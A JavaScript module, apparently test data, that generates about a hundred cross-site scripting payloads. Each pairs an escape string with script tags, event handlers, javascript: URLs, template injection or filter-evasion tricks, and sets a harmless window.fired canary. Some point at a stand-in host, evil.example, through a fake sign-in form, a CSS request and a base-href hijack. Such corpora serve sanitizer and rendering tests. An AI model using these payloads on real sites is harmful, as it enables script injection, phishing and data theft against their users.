// A hundred texts that try to become markup or script wherever they are shown. Each would set `window.fired`.

const fire = "window.fired=1";

// Ways out of where a text may stand.
const exits = ["", '">', "'>", "</title>", "</textarea>", "</code></pre>", "--></style>", "</script>"];

// What to do outside.
const acts = [
  `<script>${fire}</script>`,
  `<img src=x onerror=${fire}>`,
  `<svg onload=${fire}>`,
  `<details open ontoggle=${fire}><summary>x</summary></details>`,
  `<input autofocus onfocus=${fire}>`,
  `<a href="javascript:${fire}">press</a>`,
  `<iframe srcdoc="<script>parent.${fire}</script>"></iframe>`,
  `<form action="https://evil.example"><button>Sign in</button></form>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<div hx-trigger="load" hx-get="/logout" hx-on:load="${fire}">x</div>`,
  `<base href="https://evil.example/">`,
];

// What needs no markup, or other than usual markup.
const others = [
  `" onmouseover="${fire}" autofocus onfocus="${fire}" x="`,
  `' style='position:fixed;inset:0' onpointerenter='${fire}' x='`,
  `javascript:${fire}//`,
  `data:text/html,<script>${fire}</script>`,
  `//evil.example/%2e%2e`,
  `{{constructor.constructor("${fire}")()}}`,
  `\${${fire}}`,
  `&lt;script&gt;${fire}&lt;/script&gt;`,
  `<scr<script>ipt>${fire}</scr</script>ipt>`,
  `<IMG """><SCRIPT>${fire}</SCRIPT>">`,
  `<math><mtext><mglyph><style><!--</style><img src onerror=${fire}>`,
  `\u202e<img src=x onerror=${fire}>\u2066`,
];

export const payloads = [...exits.flatMap((exit) => acts.map((act) => exit + act)), ...others];
